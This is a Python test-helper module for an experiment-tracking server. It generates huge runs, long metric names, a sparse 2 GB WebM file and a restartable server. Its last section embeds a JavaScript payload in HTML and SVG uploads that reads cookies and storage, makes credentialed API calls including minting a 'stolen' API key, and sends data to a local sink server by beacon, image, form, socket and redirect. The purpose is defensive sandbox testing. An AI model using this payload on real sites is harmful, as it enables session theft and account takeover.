"""What is hard on a page: huge runs, long names, files that attack, a server that goes away."""

from __future__ import annotations

import hashlib
import json
import socket
import struct
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Final

import numpy as np
from tests.server.processes import Answer, Server

from runstone.domain.history import Floats, HistoryBatch, Numbers
from runstone.domain.run import ConsoleLine
from runstone.ports.blobs import StoredBlob
from runstone.ports.store import Transaction
from runstone.services.files import file_arrived, new_blob_key
from runstone.services.ingest import Report, record
from runstone.services.runs import find_run
from runstone.services.signin import actor_for_key
from runstone.storage.sqlite.store import SqliteStore

PROJECT: Final = "hard"
BEGIN: Final = 1_790_000_000.0

LONG_KEY: Final = "a_metric_of_a_long_name/" + "0123456789" * 47 + "__ends"
"""500 characters without a place to break."""
NUM_KEYS: Final = 20_000

NUM_STEPS: Final = 5_000_000
LOWEST: Final = (1_234_567, -5.0)
HIGHEST: Final = (4_000_050, 7.0)
"""The one row with the smallest value of the long run, and with the largest: (step, value)."""

NUM_LINES: Final = 1_000_000
NEEDLE: Final = (777_776, "a needle in it")
"""Index of the one line with these words, and the words."""

FILM: Final = "media/videos/long_0.webm"
FILM_BYTES: Final = 2_100_000_000
FILM_S: Final = 10.0


def key_of(number: int) -> str:
    """Name of one of the many keys."""
    return f"layer_{number // 100:03}/weight_{number:05}"


def long_values(steps: Floats) -> Floats:
    """What the long run logs."""
    values = np.sin(steps / 50_000) + 0.1 * np.sin(steps * 1.7)
    for step, value in (LOWEST, HIGHEST):
        values[steps == step] = value
    return values


def line_of(index: int) -> str:
    """A line of the long console: 100 bytes."""
    words = NEEDLE[1] if index == NEEDLE[0] else "x" * 14
    figures = "loss=0.123456 acc=0.9876 lr=0.000100 throughput=1234.5 samples/s ...."
    return f"epoch {index:7} {words:14} {figures}"


class HardServer:
    """A server of one folder and one address, which may go away and come back."""

    def __init__(self, data: Path) -> None:
        self.data = data
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            self._port = str(probe.getsockname()[1])
        self.server = Server(data, "--port", self._port)
        self.key = self.server.key
        self.url = self.server.url
        me = self.ask("GET", "/api/v1/me").json()
        self.entity: str = me["entities"][0]["name"]

    @property
    def project(self) -> str:
        """Path of the project's pages."""
        return f"/{self.entity}/{PROJECT}"

    def run(self, name: str) -> str:
        """Path of a run's pages."""
        return f"{self.project}/runs/{name}"

    def start(self) -> None:
        """Serves the folder again, at the same address."""
        self.server = Server(self.data, "--port", self._port)

    def ask(self, method: str, path: str, *, json_body: Any = None) -> Answer:
        """One request of the administrator's."""
        headers = {"Authorization": f"Bearer {self.key}", "Content-Type": "application/json"}
        body = None if json_body is None else json.dumps(json_body).encode()
        answer = self.server.ask(method, path, body=body, headers=headers)
        assert answer.status < 400, answer.body
        return answer

    def graphql(self, document: str, **variables: Any) -> dict[str, Any]:
        """What the client's own door answers."""
        answer = self.ask(
            "POST", "/graphql", json_body={"query": document, "variables": variables}
        ).json()
        assert "errors" not in answer, answer
        data: dict[str, Any] = answer["data"]
        return data

    def begin(self, run: str, name: str | None = None) -> None:
        """Begins a run as the client does."""
        self.graphql(
            "mutation U($project: String, $run: String, $name: String) { upsertBucket(input: "
            "{modelName: $project, name: $run, displayName: $name}) { bucket { id } } }",
            project=PROJECT,
            run=run,
            name=name or run,
        )

    def log(self, run: str, first: int, rows: Sequence[dict[str, Any]]) -> None:
        """Logs rows, and as the summary what was logged last."""
        stamped = [
            {"_step": step, "_timestamp": BEGIN + step, "_runtime": float(step), **row}
            for step, row in enumerate(rows, start=first)
        ]
        files = {
            "wandb-history.jsonl": {"offset": first, "content": list(map(json.dumps, stamped))},
            "wandb-summary.json": {"offset": 0, "content": [json.dumps(stamped[-1])]},
        }
        self.ask("POST", self._stream(run), json_body={"files": files})

    def print(self, run: str, first: int, lines: Sequence[str]) -> None:
        """Prints lines, numbered from `first` on."""
        at = datetime.fromtimestamp(BEGIN, UTC).isoformat()
        content = [json.dumps({"ts": at, "content": line}) for line in lines]
        files = {"output.log": {"offset": first, "content": content}}
        self.ask("POST", self._stream(run), json_body={"files": files})

    def finish(self, run: str) -> None:
        """Ends a run."""
        self.ask("POST", self._stream(run), json_body={"complete": True, "exitcode": 0})

    def upload(self, run: str, files: dict[str, bytes]) -> None:
        """Saves files with a run, by signed addresses as the client does."""
        created = self.graphql(
            "mutation C($entity: String!, $project: String!, $run: String!, $files: [String!]!) {"
            " createRunFiles(input: {entityName: $entity, projectName: $project, runName: $run,"
            " files: $files}) { files { name uploadUrl } } }",
            entity=self.entity,
            project=PROJECT,
            run=run,
            files=list(files),
        )
        for file in created["createRunFiles"]["files"]:
            path = file["uploadUrl"].removeprefix(self.url)
            assert self.server.ask("PUT", path, body=files[file["name"]]).status == 200

    def _stream(self, run: str) -> str:
        return f"/files/{self.entity}/{PROJECT}/{run}/file_stream"


def store_the_huge(hard: HardServer, *, steps_run: str, console_run: str, film_run: str) -> None:
    """Writes into the folder of a server that is stopped what would take minutes over HTTP.

    The rows and lines go in by the same services. The film lies in the blob folder as a file with
    a hole of 2.1 GB in it.
    """
    store = SqliteStore(hard.data)
    try:
        for first in range(0, NUM_STEPS, 100_000):
            report = Report(history=_long_batch(first, 100_000))
            store.write(_recording(hard, steps_run, report)).result()
        for first in range(0, NUM_LINES, 50_000):
            numbers = range(first, first + 50_000)
            report = Report(console=[ConsoleLine("", n, line_of(n), None) for n in numbers])
            store.write(_recording(hard, console_run, report)).result()
        for run in (steps_run, console_run, film_run):
            store.write(_recording(hard, run, Report(exit_code=0))).result()
        store.write(lambda tx: _put_film(hard, tx, film_run)).result()
        store.seal_idle()
    finally:
        store.close()


def _recording(hard: HardServer, run: str, report: Report) -> Any:
    def write(tx: Transaction) -> None:
        record(tx, actor_for_key(tx, hard.key), hard.entity, PROJECT, run, report)

    return write


def _long_batch(first: int, num_rows: int) -> HistoryBatch:
    step = np.arange(first, first + num_rows)
    values = long_values(step.astype(np.float64))
    return HistoryBatch(first, step, BEGIN + step * 0.1, step * 0.1, {"loss": Numbers(values)})


def _put_film(hard: HardServer, tx: Transaction, name: str) -> None:
    run = find_run(tx, actor_for_key(tx, hard.key), hard.entity, PROJECT, name)
    key = new_blob_key(run.id)
    path = hard.data / "blobs" / key
    path.parent.mkdir(parents=True, exist_ok=True)
    write_film(path, FILM_BYTES)
    digest = hashlib.md5(b"not read: 2 GB of nothing", usedforsecurity=False).digest()
    file_arrived(tx, run.id, FILM, StoredBlob(key, FILM_BYTES, digest))


# A film: a red picture for five seconds, more than two gigabytes of padding, a blue one for five.

_RED: Final = bytes.fromhex(
    "1003009d012a200020003f3996c359af2aa7a3a80801e027096500c7e416a714"
    "0000fee2e0b7b968a457f6a7ef67e13e8d07767f0000"
)
_BLUE: Final = bytes.fromhex(
    "1003009d012a200020003f3996c359af2aa7a3a80801e027096500b6c816a714"
    "0000fee78bff6dbea4fcabcd34870afa5dbf07a1a000"
)
"""One VP8 key frame each, 32 × 32."""


def write_film(path: Path, size_bytes: int) -> None:
    """Writes a WebM file of that length that takes next to no room on the disk.

    Source: RFC 8794 (EBML), RFC 9559 (Matroska).
    """
    head = _element(
        0x1A45DFA3,
        _element(0x4282, b"webm") + _element(0x4287, b"\2") + _element(0x4285, b"\2"),
    )
    info = _element(
        0x1549A966,
        _uint(0x2AD7B1, 1_000_000)
        + _element(0x4489, struct.pack(">d", FILM_S * 1_000))
        + _element(0x4D80, b"test")
        + _element(0x5741, b"test"),
    )
    track = (
        _uint(0xD7, 1)
        + _uint(0x73C5, 1)
        + _uint(0x83, 1)
        + _element(0x86, b"V_VP8")
        + _element(0xE0, _uint(0xB0, 32) + _uint(0xBA, 32))
    )
    tracks = _element(0x1654AE6B, _element(0xAE, track))
    first, second = _cluster(0, _RED), _cluster(5_000, _BLUE)
    length_of_cues = len(_cues(0, 0))
    begin = len(info) + len(tracks) + length_of_cues
    frame = len(head) + 12  # the segment's own id and size
    padding = size_bytes - frame - begin - len(first) - len(second)
    cues = _cues(begin, begin + len(first) + padding)
    segment = info + tracks + cues + first
    with path.open("wb") as file:
        file.write(head + _opening(0x18538067, size_bytes - frame) + segment)
        file.write(_opening(0xEC, padding - 9))
        file.seek(size_bytes - len(second))
        file.write(second)
    assert path.stat().st_size == size_bytes


def _opening(element: int, size: int) -> bytes:
    id_bytes = element.to_bytes((element.bit_length() + 7) // 8, "big")
    return id_bytes + (size | 1 << 56).to_bytes(8, "big")


def _element(element: int, content: bytes) -> bytes:
    return _opening(element, len(content)) + content


def _uint(element: int, value: int) -> bytes:
    return _element(element, value.to_bytes(8, "big"))


def _cluster(at_ms: int, picture: bytes) -> bytes:
    blocks = b"".join(
        _element(0xA3, b"\x81" + struct.pack(">h", ms) + b"\x80" + picture)
        for ms in range(0, 5_000, 100)
    )
    return _element(0x1F43B675, _uint(0xE7, at_ms) + blocks)


def _cues(*positions: int) -> bytes:
    points = [
        _element(0xBB, _uint(0xB3, 5_000 * i) + _element(0xB7, _uint(0xF7, 1) + _uint(0xF1, at)))
        for i, at in enumerate(positions)
    ]
    return _element(0x1C53BB6B, b"".join(points))


# Pages that attack whoever looks at them.


class Sink:
    """Somebody else's server: what it is asked for was carried out of the page.

    Attributes:
        heard: Paths, in order.
    """

    def __init__(self, url: str, heard: list[str]) -> None:
        self.url = url
        self.heard = heard


@contextmanager
def sink() -> Iterator[Sink]:
    """One on a free port."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *args: Any) -> None:
            pass

    listening = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=listening.serve_forever, daemon=True)
    thread.start()
    try:
        yield Sink(f"http://127.0.0.1:{listening.server_port}", heard)
    finally:
        listening.shutdown()
        listening.server_close()
        thread.join()


_ATTACK: Final = """
const found = {};
const tries = {
  cookie: () => document.cookie || Promise.reject("none"),
  storage: () => window.localStorage.length,
  session: () => window.sessionStorage.length,
  database: () => window.indexedDB.open("x").readyState,
  parent: () => window.parent === window ? Promise.reject("none") : window.parent.document.title,
  top: () => window.top === window ? Promise.reject("none") : window.top.document.title,
  read: async () => (await fetch("API/me", {credentials: "include"})).text(),
  opaque: async () => (await fetch("API/me", {credentials: "include", mode: "no-cors"})).type,
  write: async () => (await fetch("API/api-keys", {method: "POST", credentials: "include",
    headers: {"X-Runstone-CSRF": "1", "Content-Type": "application/json"},
    body: '{"name": "stolen"}'})).text(),
  carry: async () => (await fetch("SINK/fetch", {mode: "no-cors"})).type,
  socket: () => new Promise((yes, no) => {
    const socket = new WebSocket("SINK/socket".replace("http", "ws"));
    socket.onopen = yes;
    socket.onerror = () => no("refused");
  }),
  frame: () => new Promise((yes, no) => {
    const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe");
    frame.src = "API/me";
    frame.onload = () => {
      try {
        yes(frame.contentDocument.body.textContent.length || no("empty"));
      } catch (error) { no(error); }
    };
    document.documentElement.append(frame);
  }),
};
const quietly = [
  () => { new Image().src = "SINK/image"; },
  () => navigator.sendBeacon("SINK/beacon", "x"),
  () => {
    const style = document.createElementNS("http://www.w3.org/1999/xhtml", "style");
    style.textContent = '@import url("SINK/style.css");';
    document.documentElement.append(style);
  },
  () => {
    const html = (tag) => document.createElementNS("http://www.w3.org/1999/xhtml", tag);
    const form = html("form");
    form.action = "SINK/form";
    form.method = "post";
    document.documentElement.append(form);
    form.submit();
  },
  () => {
    const html = (tag) => document.createElementNS("http://www.w3.org/1999/xhtml", tag);
    const script = html("script");
    script.src = "SINK/script.js";
    document.documentElement.append(script);
  },
  () => { window.open("SINK/window"); },
  () => { window.top.location = "SINK/top"; },
  () => { window.parent.location.href = "SINK/parent"; },
  () => { alert("hello"); },
  () => { window.parent.postMessage({type: "hello"}, "*"); },
];
(async () => {
  for (const one of quietly) try { if (IS_FRAMED(one)) one(); } catch (error) {}
  for (const [name, one] of Object.entries(tries)) {
    try {
      found[name] = ["got it", String(await one())];
    } catch (error) { found[name] = ["refused", String(error)]; }
  }
  window.found = found;
})();
"""
_LEAVE: Final = '<!doctype html><meta http-equiv="refresh" content="0;url=SINK/refresh"><p>leaving'


def attacking_files(hard: HardServer, carrier: Sink) -> dict[str, bytes]:
    """Files that try all that a page may try; each leaves what it got in `window.found`."""

    def aim(text: str) -> str:
        # A page of its own window has the right to leave for another site: nothing is in it.
        text = text.replace("IS_FRAMED(one)", "(window.top !== window || !/location/.test(one))")
        return text.replace("SINK", carrier.url).replace("API", f"{hard.url}/api/v1")

    attack = aim(_ATTACK)
    return {
        "media/html/attack_0.html": (
            f"<!doctype html><title>evil</title><p>evil page</p><script>{attack}</script>"
        ).encode(),
        "attack.svg": (
            '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90">'
            f'<circle cx="45" cy="45" r="40"/><script><![CDATA[{attack}]]></script></svg>'
        ).encode(),
        "leave.html": aim(_LEAVE).encode(),
    }
